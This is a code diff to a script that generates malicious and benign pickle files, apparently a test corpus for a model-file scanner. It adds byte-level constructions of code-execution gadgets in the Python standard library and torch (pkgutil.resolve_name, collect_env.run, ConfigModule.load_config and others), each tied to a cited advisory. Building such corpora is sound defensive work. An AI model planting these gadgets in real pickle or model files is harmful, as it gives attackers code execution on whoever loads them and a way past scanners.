@@ -235,6 +235,38 @@ def build_hostile():
             "protocol 4 dotted name: pathlib 'Path.touch'(Path('pwned'))",
             proto(4) + call1(sg("pathlib", "Path.touch"), call1(sg("pathlib", "Path"),
                                                               su("pwned"))) + b".")
+    # -- gadgets inside torch and the standard library (picklescan advisories)
+    hostile("p2_pkgutil_resolve_name.pkl",
+            "pkgutil.resolve_name('os:system'): any callable from a string (GHSA-vvpj-8cmc-gx39)",
+            p2(call1(call1(glob("pkgutil", "resolve_name"), u("os:system")), u(CMD))))
+    hostile("p2_importlib_import_module.pkl",
+            "getattr(importlib.import_module('os'), 'system')(cmd)",
+            p2(glob("builtins", "getattr") + call1(glob("importlib", "import_module"), u("os")) +
+               u("system") + b"\x86R" + u(CMD) + b"\x85R"))
+    hostile("p2_torch_collect_env_run.pkl",
+            "torch.utils.collect_env.run(cmd) (GHSA-f745-w6jp-hpxx)",
+            p2(call1(glob("torch.utils.collect_env", "run"), u(CMD))))
+    hostile("p2_torch_bottleneck_cprofile.pkl",
+            "torch.utils.bottleneck.__main__.run_cprofile(source, {}) (GHSA-4r9r-ch6f-vxmx)",
+            p2(glob("torch.utils.bottleneck.__main__", "run_cprofile") +
+               u("open('pwned','w').close()") + b"}" + b"\x86R"),
+            not_live="torch.utils.bottleneck is gone from torch 2.15 (live with older torch)")
+    hostile("p2_torch_datapipes_decoder.pkl",
+            "torch datapipes decoder basichandlers('pickle', nested pickle) "
+            "(GHSA-h3qp-7fh3-f8h4)",
+            p2(glob("torch.utils.data.datapipes.utils.decoder", "basichandlers") + u("pickle") +
+               b"C" + bytes([len(p2(system_call()))]) + p2(system_call()) + b"\x86R"))
+    hostile("p4_torch_config_module.pkl",
+            "protocol 4 dotted ConfigModule.load_config(None, nested pickle) "
+            "(GHSA-vv6j-3g6g-2pvj)",
+            proto(4) + sg("torch.utils._config_module", "ConfigModule.load_config") + b"N" +
+            b"C" + bytes([len(p2(system_call()))]) + p2(system_call()) + b"\x86R.")
+    hostile("p4_torch_symbolic_shapes_eval.pkl",
+            "protocol 4 dotted ShapeEnv.evaluate_guards_expression(str, source, []) "
+            "(GHSA-f4x7-rfwp-v3xw)",
+            proto(4) + sg("torch.fx.experimental.symbolic_shapes",
+                          "ShapeEnv.evaluate_guards_expression") + sg("builtins", "str") +
+            su("open('pwned','w').close()") + b"]" + b"\x87R.")
     # -- opcodes other than REDUCE that call
     hostile("p0_inst.pkl", "INST: protocol 0 class call",
             b"(S'" + CMD.encode() + b"'\nios\nsystem\n.")
@@ -495,7 +527,7 @@ def prove(path, loader):
 
 
 # --------------------------------------------------------------------------- output
-def write_all():
+def write_all(force=False):
     build_hostile()
     build_benign()
     for d in (HOSTILE, BENIGN):
@@ -515,7 +547,11 @@ def write_all():
     bman = []
     for b in B:
         p = BENIGN / b["file"]
-        if callable(b["data"]):
+        if p.exists() and not force:
+            # torch's legacy format and DCP write ids that change from run to run: keep the
+            # committed bytes unless asked.
+            pass
+        elif callable(b["data"]):
             b["data"](p)
         else:
             p.write_bytes(b["data"])
@@ -583,8 +619,9 @@ def probe_duplicates():
 if __name__ == "__main__":
     ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     ap.add_argument("--probe-duplicates", action="store_true")
+    ap.add_argument("--force", action="store_true", help="rewrite the benign files too")
     a = ap.parse_args()
     if a.probe_duplicates:
         probe_duplicates()
     else:
-        write_all()
+        write_all(force=a.force)
